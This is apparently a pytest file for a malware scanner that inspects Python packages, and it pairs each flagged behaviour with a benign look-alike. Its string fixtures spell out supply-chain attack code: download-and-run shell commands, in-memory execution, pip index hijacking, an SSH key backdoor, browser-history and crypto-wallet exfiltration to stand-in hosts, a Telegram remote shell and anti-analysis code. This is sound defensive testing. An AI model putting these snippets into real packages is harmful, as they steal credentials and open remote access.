"""Behaviours rules 8 reads, each beside a look-alike that must pass: a package with nothing
to install but its name; a download handed to a shell as its script (``bash -c "$(curl
...)"``) or saved and then run by one; a download run from an anonymous in-memory file
(``memfd_create``); an index written into pip's configuration; a public key written into
``authorized_keys``; a Windows service created at install time; the user's name sent to a
bare IP address from a function.

The "malicious" sources below are inert text handed to the scanner; nothing runs them.
"""

from __future__ import annotations

import pytest

from tests.support.archives import pkg_info, sdist, wheel
from tests.support.scan import judge as _judge
from tests.support.scan import judge_in_function as _in_function


def _install(setup: str) -> tuple[dict[str, float], bool]:
    """``_judge`` of an sdist with ``setup`` as its setup.py and a module of its own."""
    archive = sdist({"setup.py": setup, "PKG-INFO": pkg_info(), "demo/__init__.py": "X = 1\n"})
    return _judge(archive, "demo-1.0.tar.gz")


SETUP = "from setuptools import setup\nsetup(name='acme-billing-core', version='1.0.0'{more})\n"


def _claim(members: dict[str, str | bytes], setup_more: str = "") -> bytes:
    """An sdist of "acme-billing-core" with ``members`` beside its setup.py and PKG-INFO."""
    return sdist(
        {
            "setup.py": SETUP.format(more=setup_more),
            "PKG-INFO": pkg_info("acme-billing-core", "1.0.0", "Billing helpers"),
            **members,
        },
        root="acme-billing-core-1.0.0",
    )


SDIST = "acme_billing_core-1.0.0.tar.gz"
WHEEL = "acme_billing_core-1.0.0-py3-none-any.whl"


@pytest.mark.parametrize(
    ("archive", "filename"),
    [
        (_claim({"README.md": "# acme-billing-core\n", "LICENSE": "MIT\n"}), SDIST),
        (_claim({"acme_billing_core/__init__.py": "# reserved\n"}), SDIST),
        (wheel({}, name="acme_billing_core", version="1.0.0"), WHEEL),
        (
            wheel({"acme_billing_core/__init__.py": ""}, name="acme_billing_core", version="1.0.0"),
            WHEEL,
        ),
    ],
    ids=[
        "sdist, documents only",
        "sdist, a comment",
        "wheel, metadata only",
        "wheel, empty module",
    ],
)
def test_a_package_with_nothing_to_install_is_held(archive: bytes, filename: str) -> None:
    rules, held = _judge(archive, filename)
    assert held and rules["placeholder"] == 10


@pytest.mark.parametrize(
    ("archive", "filename"),
    [
        # A meta-package: it exists for what it requires.
        (_claim({}, setup_more=", install_requires=['requests>=2']"), SDIST),
        (
            wheel(
                {},
                name="acme_billing_core",
                version="1.0.0",
                metadata="Metadata-Version: 2.1\nName: acme-billing-core\nVersion: 1.0.0\n"
                "Requires-Dist: requests>=2\n",
            ),
            WHEEL,
        ),
        # Type stubs, compiled code, data: content that is not a Python module's code.
        (wheel({"acme_billing_core-stubs/__init__.pyi": "def f() -> int: ...\n"}), WHEEL),
        (wheel({"acme_billing_core/lib/libcore.so.1": b"\x7fELF" + b"\0" * 60}), WHEEL),
        # A module too small for triage to parse, and one that does not parse (Python 2).
        (_claim({"acme_billing_core/__init__.py": "def total(x):\n    return sum(x)\n"}), SDIST),
        (_claim({"billing.py": "def show(x)\n\tprint x\n"}), SDIST),
        # A popular project's retired name, released empty so nobody installs old code.
        (
            sdist(
                {
                    "PKG-INFO": pkg_info("asyncio", "4.0.0", "Deprecated backport of asyncio"),
                    "README.md": "Do not install this package.\n",
                },
                root="asyncio-4.0.0",
            ),
            "asyncio-4.0.0.tar.gz",
        ),
    ],
    ids=["install_requires", "Requires-Dist", "stubs", "shared library", "small", "py2", "known"],
)
def test_a_package_with_requirements_data_or_code_is_not_empty(
    archive: bytes, filename: str
) -> None:
    rules, held = _judge(archive, filename)
    assert not held and rules.get("placeholder", 0) < 10


SHELL_SCRIPT_DOWNLOADS = {
    "handed to a shell": "os.system('bash -c \"$(curl -fsSL https://get.example.io/y)\"')",
    "saved, then run": 'os.system("wget -q https://cdn.example.com/a.sh -O /tmp/.a.sh && bash /tmp/.a.sh")',
    "saved, then started": 'os.system("curl -L -o /tmp/.u https://cdn.example.com/u; ./u")',
}


@pytest.mark.parametrize("command", SHELL_SCRIPT_DOWNLOADS.values(), ids=SHELL_SCRIPT_DOWNLOADS)
def test_a_download_run_by_a_shell_is_held_in_a_function(command: str) -> None:
    rules, held = _in_function(f"import os\n\ndef connect():\n    {command}\n")
    assert held and rules["download-run"] == 10


def test_a_download_saved_and_unpacked_is_not_a_download_run() -> None:
    rules, held = _in_function(
        "import os\n\ndef connect():\n"
        "    os.system('curl -sL -o /tmp/data.tgz https://cdn.example.com/data.tgz && tar xf /tmp/data.tgz')\n"
    )
    assert not held and "download-run" not in rules


MEMFD = """\
import os, requests

def connect():
    fd = os.memfd_create("kworker")
    os.write(fd, requests.get("https://cdn.example.com/m").content)
    os.execv(f"/proc/self/fd/{fd}", ["kworker"])
"""


def test_a_download_run_from_memory_is_held() -> None:
    rules, held = _in_function(MEMFD)
    assert held and rules["drop-run"] == 10


def test_an_in_memory_file_without_a_download_is_not_a_drop_run() -> None:
    # Shared memory between processes: no download, nothing run from it.
    rules, held = _in_function(
        "import os, mmap\n\ndef buffer(size):\n"
        "    fd = os.memfd_create('frames')\n    os.ftruncate(fd, size)\n"
        "    return mmap.mmap(fd, size)\n"
    )
    assert not held and "drop-run" not in rules


PIP_CONF = """\
import os
d = os.path.expanduser("~/.config/pip")
os.makedirs(d, exist_ok=True)
with open(os.path.join(d, "pip.conf"), "w") as f:
    f.write("[global]\\nextra-index-url = https://pypi-mirror.example.com/simple/\\n")
"""


def test_an_index_written_into_pips_configuration_on_import_is_held() -> None:
    rules, held = _judge(wheel({"demo/__init__.py": PIP_CONF}), "demo-1.0-py3-none-any.whl")
    assert held and rules["index-hijack"] == 10


def test_pip_config_set_by_install_time_code_is_held() -> None:
    setup = (
        "import subprocess\nfrom setuptools import setup\n"
        "subprocess.run(['pip', 'config', 'set', 'global.index-url', 'https://m.example.com/simple'])\n"
        "subprocess.run('pip config set global.index-url https://m.example.com/simple', shell=True)\n"
        "setup(name='demo', version='1.0')\n"
    )
    rules, held = _install(setup)
    assert held and rules["index-hijack"] == 10


def test_reading_pips_configuration_is_not_an_index_hijack() -> None:
    rules, held = _in_function(
        "import configparser, os\n\ndef index_url():\n"
        "    c = configparser.ConfigParser()\n"
        "    c.read(os.path.expanduser('~/.config/pip/pip.conf'))\n"
        "    return c.get('global', 'index-url', fallback=None)\n"
    )
    assert not held and "index-hijack" not in rules


KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl op@host"


def test_a_key_written_in_appended_to_authorized_keys_is_held_in_a_function() -> None:
    rules, held = _in_function(
        "import os\n\ndef connect():\n"
        "    with open(os.path.expanduser('~/.ssh/authorized_keys'), 'a') as f:\n"
        f"        f.write('\\n{KEY}\\n')\n"
    )
    assert held and rules["account-backdoor"] == 10


def test_a_key_the_caller_passes_is_not_a_backdoor() -> None:
    rules, held = _in_function(
        "import os\n\ndef authorize(public_key):\n"
        "    with open(os.path.expanduser('~/.ssh/authorized_keys'), 'a') as f:\n"
        "        f.write(public_key + '\\n')\n"
    )
    assert not held and "account-backdoor" not in rules


def test_a_windows_service_created_at_install_is_held() -> None:
    setup = (
        "import os\nfrom setuptools import setup\n"
        "os.system('sc create WinUpdater binPath= \"C:\\\\ProgramData\\\\wu.exe\" start= auto')\n"
        "setup(name='demo', version='1.0')\n"
    )
    rules, held = _install(setup)
    assert held and rules["persistence"] == 10  # the line that names it creates it (rules 53)


def test_who_runs_the_code_sent_to_a_bare_address_from_a_function_is_held() -> None:
    beacon = (
        "import getpass, socket, requests\n\ndef connect():\n"
        "    requests.post('http://103.45.67.89/c', json={'h': socket.gethostname(), "
        "'u': getpass.getuser()})\n"
    )
    rules, held = _in_function(beacon)
    assert held and rules["phone-home"] == 10
    named = beacon.replace("http://103.45.67.89/c", "https://telemetry.example.com/c")
    rules, held = _in_function(named)
    assert not held and rules["phone-home"] < 10


def test_a_package_with_only_requirements_whose_install_runs_a_process_is_held() -> None:
    hook = (
        "import subprocess\nfrom setuptools import setup\nfrom setuptools.command.install import install\n"
        "class Post(install):\n    def run(self):\n        install.run(self)\n"
        "        subprocess.call(['sh', '-c', 'id'])\n"
        "setup(name='acme-billing-core', version='1.0.0', install_requires=['requests'],\n"
        "      cmdclass={'install': Post})\n"
    )
    archive = sdist(
        {"setup.py": hook, "PKG-INFO": pkg_info("acme-billing-core", "1.0.0")},
        root="acme-billing-core-1.0.0",
    )
    rules, held = _judge(archive, SDIST)
    assert held and rules["placeholder"] == 10


FUNCTION_CASES = {
    "exec fetched by a name in pieces": (
        "download-exec",
        "import builtins, requests\n\ndef connect():\n"
        "    getattr(builtins, 'ex' + 'ec')(requests.get('https://x.example.com/p').text)\n",
    ),
    "a browser's history sent": (
        "credential-exfil",
        "import os, sqlite3, requests\n\ndef connect():\n"
        "    db = os.path.expanduser('~/.config/google-chrome/Default/History')\n"
        "    rows = sqlite3.connect(db).execute('select url from urls').fetchall()\n"
        "    requests.post('https://collect.example.com/h', json=rows)\n",
    ),
    "a wallet named in pieces, sent": (
        "credential-exfil",
        "import os, requests\n\ndef connect():\n"
        "    src = os.path.join(os.getenv('APPDATA'), 'Exodus', 'exodus.wallet')\n"
        "    for name in os.listdir(src):\n"
        "        requests.post('https://collect.example.com/w', files={'f': open(os.path.join(src, name), 'rb')})\n",
    ),
    "a chat bot's message run": (
        "download-exec",
        "import subprocess, telebot\n\ndef connect(token):\n"
        "    bot = telebot.TeleBot(token)\n\n"
        "    @bot.message_handler(func=lambda m: True)\n"
        "    def handle(m):\n"
        "        bot.reply_to(m, subprocess.getoutput(m.text))\n\n"
        "    bot.infinity_polling()\n",
    ),
}


@pytest.mark.parametrize(("rule", "client"), FUNCTION_CASES.values(), ids=FUNCTION_CASES)
def test_behaviours_triage_now_lets_through_are_held_in_a_function(rule: str, client: str) -> None:
    rules, held = _in_function(client)
    assert held and rule in rules


def test_a_history_folder_of_ones_own_and_a_method_in_pieces_are_not_findings() -> None:
    rules, held = _in_function(
        "import os, requests\n\ndef connect(project, api):\n"
        "    log = open(os.path.join(project, 'History')).read()\n"
        "    requests.post('https://api.example.com/v1/log', data=log)\n"
        "    return getattr(api, 'get_' + 'status')()\n"
    )
    assert not held and "credential-exfil" not in rules and "download-exec" not in rules


def test_a_requirement_fetched_from_a_url_off_the_index_is_held() -> None:
    setup = ", install_requires=['billing-helper @ https://files.example-cdn.com/bh-1.0.tar.gz']"
    rules, held = _judge(_claim({"acme_billing_core/__init__.py": "X = 1\n"}, setup), SDIST)
    assert held and rules["url-requirement"] == 10
    metadata = (
        "Metadata-Version: 2.1\nName: demo\nVersion: 1.0\n"
        "Requires-Dist: helper @ http://45.61.1.2/helper-1.0-py3-none-any.whl\n"
    )
    rules, held = _judge(
        wheel({"demo/__init__.py": "X = 1\n"}, metadata=metadata), "demo-1.0-py3-none-any.whl"
    )
    assert held and rules["url-requirement"] == 10


def test_a_fork_on_a_forge_is_weaker_and_a_home_page_is_no_requirement() -> None:
    setup = ", install_requires=['lib @ git+https://github.com/someone/lib@v1.2']"
    rules, held = _judge(_claim({"acme_billing_core/__init__.py": "X = 1\n"}, setup), SDIST)
    assert not held and rules["url-requirement"] == 4
    metadata = (
        "Metadata-Version: 2.1\nName: demo\nVersion: 1.0\nHome-page: https://example.com/demo\n"
        "Author-email: Demo Team <team@example.com>\nRequires-Dist: requests>=2\n"
    )
    rules, held = _judge(
        wheel({"demo/__init__.py": "X = 1\n"}, metadata=metadata), "demo-1.0-py3-none-any.whl"
    )
    assert not held and "url-requirement" not in rules


# `eval` and its argument both spelled in a code page nobody writes in (EBCDIC).
CODE_PAGE = (
    "import builtins\n"
    f"run = getattr(builtins, {'eval'.encode('cp1026')!r}.decode('cp1026'))\n"
    f"run({'print(1)'.encode('cp1026')!r}.decode('cp1026'))\n"
)


def test_code_spelled_in_an_obscure_code_page_and_run_is_held() -> None:
    rules, held = _judge(wheel({"demo/__init__.py": CODE_PAGE}), "demo-1.0-py3-none-any.whl")
    assert held and rules["decode-exec"] == 10


def test_text_decoded_from_a_common_encoding_is_not_a_payload() -> None:
    source = (
        "import builtins\nname = getattr(builtins, 'print')\n"
        f"name({'héllo'.encode('latin-1')!r}.decode('latin-1'))\n"
    )
    rules, held = _judge(wheel({"demo/__init__.py": source}), "demo-1.0-py3-none-any.whl")
    assert not held and "decode-exec" not in rules


def test_who_runs_the_code_sent_to_an_address_spelled_only_encoded_is_held() -> None:
    beacon = (
        "import base64, getpass, requests\n\ndef connect():\n"
        "    url = base64.b64decode('aHR0cHM6Ly9jb2xsZWN0LmV4YW1wbGUuY29tL2M=').decode()\n"
        "    requests.post(url, json={'u': getpass.getuser()})\n"
    )
    rules, held = _in_function(beacon)
    assert held and rules["phone-home"] == 10
    plain = beacon.replace(
        "base64.b64decode('aHR0cHM6Ly9jb2xsZWN0LmV4YW1wbGUuY29tL2M=').decode()",
        "'https://collect.example.com/c'",
    )
    rules, held = _in_function(plain)
    assert not held and rules["phone-home"] < 10


def test_urls_outside_what_installing_asks_for_are_no_url_requirements() -> None:
    # A README's example in the metadata's description; a development group; a pin.
    metadata = (
        "Metadata-Version: 2.1\nName: demo\nVersion: 1.0\n\n"
        "Benchmarks need a checkout:\n\n    tomli @ file:///home/foo/dev/tomli\n"
    )
    pyproject = (
        "[project]\nname = 'demo'\nversion = '1.0'\n"
        "dependencies = ['helper @ https://files.example-cdn.com/h-1.0.tar.gz#sha256="
        + "0"
        * 64
        + "']\n"
        "[dependency-groups]\ndev = ['tool @ https://files.example-cdn.com/tool-2.0.tar.gz']\n"
    )
    archive = sdist(
        {"PKG-INFO": metadata, "pyproject.toml": pyproject, "demo/__init__.py": "X = 1\n"}
    )
    rules, held = _judge(archive, "demo-1.0.tar.gz")
    assert not held and rules["url-requirement"] == 2


def test_install_time_pip_install_of_an_archive_off_the_forges_is_held() -> None:
    def judge(command: str) -> tuple[dict[str, float], bool]:
        setup = (
            f"import os\nfrom setuptools import setup\nos.system({command!r})\n"
            "setup(name='demo', version='1.0')\n"
        )
        return _install(setup)

    rules, held = judge("pip install https://files.example-cdn.com/helper-1.0.tar.gz")
    assert held and rules["hidden-install"] == 10
    rules, held = judge("pip install git+https://github.com/someone/helper")
    assert not held and rules["hidden-install"] == 6


def test_a_pip_command_from_another_project_is_held() -> None:
    entry_points = "[console_scripts]\npip = demo.cli:main\n"
    archive = wheel(
        {
            "demo/__init__.py": "X = 1\n",
            "demo/cli.py": "def main():\n    return 0\n",
            "demo-1.0.dist-info/entry_points.txt": entry_points,
        }
    )
    rules, held = _judge(archive, "demo-1.0-py3-none-any.whl")
    assert held and rules["command-hijack"] == 10
    archive = wheel(
        {
            "demo/__init__.py": "X = 1\n",
            "demo/cli.py": "def main():\n    return 0\n",
            "demo-1.0.dist-info/entry_points.txt": entry_points.replace("pip =", "ls ="),
        }
    )
    rules, held = _judge(archive, "demo-1.0-py3-none-any.whl")
    assert not held and rules["command-hijack"] == 8


BARE_BEACONS = {
    "a DNS look-up": "import socket\nsocket.gethostbyname('demo-pkg.abcd1234.collect-dns.net')\n",
    "a request whose answer nothing reads": (
        "import requests\nrequests.get('https://telemetry.acme-tools.io/installed?pkg=demo')\n"
    ),
}


@pytest.mark.parametrize("code", BARE_BEACONS.values(), ids=BARE_BEACONS)
def test_an_install_that_calls_out_for_its_own_sake_is_a_beacon(code: str) -> None:
    setup = code + "from setuptools import setup\nsetup(name='demo', version='1.0')\n"
    rules, held = _install(setup)
    assert held and rules["phone-home"] == 8


def test_an_install_that_downloads_what_it_reads_or_checks_pypi_is_no_beacon() -> None:
    setup = (
        "import socket, requests\nsocket.gethostbyname('pypi.org')\n"
        "r = requests.get('https://cdn.acme-tools.io/data.bin')\n"
        "open('data.bin', 'wb').write(r.content)\n"
        "from setuptools import setup\nsetup(name='demo', version='1.0')\n"
    )
    rules, held = _install(setup)
    assert not held and "phone-home" not in rules


ANTI_VM = """\
import os, psutil, sys, requests
USERS = ["WDAGUtilityAccount", "Abby", "Peter Wilson", "hmarc", "patex"]
TOOLS = ["httpdebuggerui", "wireshark", "fiddler", "vboxservice", "vmtoolsd", "x96dbg"]
if os.getlogin() in USERS:
    sys.exit()
for p in psutil.process_iter():
    if p.name().lower().replace(".exe", "") in TOOLS:
        p.kill()
requests.get("https://api.example-cdn.net/v1/ready")
"""


def test_a_list_of_sandboxes_and_analysis_tools_to_hide_from_is_anti_analysis() -> None:
    rules, held = _judge(wheel({"demo/__init__.py": ANTI_VM}), "demo-1.0-py3-none-any.whl")
    assert held and rules["anti-analysis"] == 10  # it kills the tools it finds (rules 19)


def test_a_tool_that_knows_two_sniffers_is_not_anti_analysis() -> None:
    source = "KNOWN = ['wireshark', 'fiddler', 'tcpdump']\n\ndef sniffers(names):\n    return [n for n in names if n in KNOWN]\n"
    rules, held = _judge(wheel({"demo/__init__.py": source}), "demo-1.0-py3-none-any.whl")
    assert not held and "anti-analysis" not in rules


def test_an_import_that_calls_out_for_its_own_sake_is_a_beacon() -> None:
    source = "import requests\nrequests.get('https://telemetry.acme-tools.io/imported?pkg=demo')\n"
    rules, held = _judge(wheel({"demo/__init__.py": source}), "demo-1.0-py3-none-any.whl")
    assert held and rules["phone-home"] == 8
    reads = source.replace("requests.get(", "LATEST = requests.get(").rstrip() + ".json()\n"
    rules, held = _judge(wheel({"demo/__init__.py": reads}), "demo-1.0-py3-none-any.whl")
    assert not held and "phone-home" not in rules


def test_builtins_fetched_from_their_table_and_a_data_file_run_as_code_are_held() -> None:
    table = (
        "import requests\n\ndef connect():\n"
        "    vars(__builtins__)['ex' + 'ec'](requests.get('https://x.example.com/p').text)\n"
    )
    rules, held = _in_function(table)
    assert held and rules["download-exec"] == 10
    data_file = (
        "import os\n\ndef connect():\n"
        "    exec(open(os.path.join(os.path.dirname(__file__), 'notes.txt')).read())\n"
    )
    rules, held = _in_function(data_file)
    assert held and rules["decode-exec"] == 10


def test_a_version_module_run_by_setup_py_is_not_a_data_file() -> None:
    setup = (
        "import os\nabout = {}\nexec(open(os.path.join('demo', '__version__.py')).read(), about)\n"
        "from setuptools import setup\nsetup(name='demo', version=about['__version__'])\n"
    )
    rules, held = _install(setup)
    assert not held and "decode-exec" not in rules
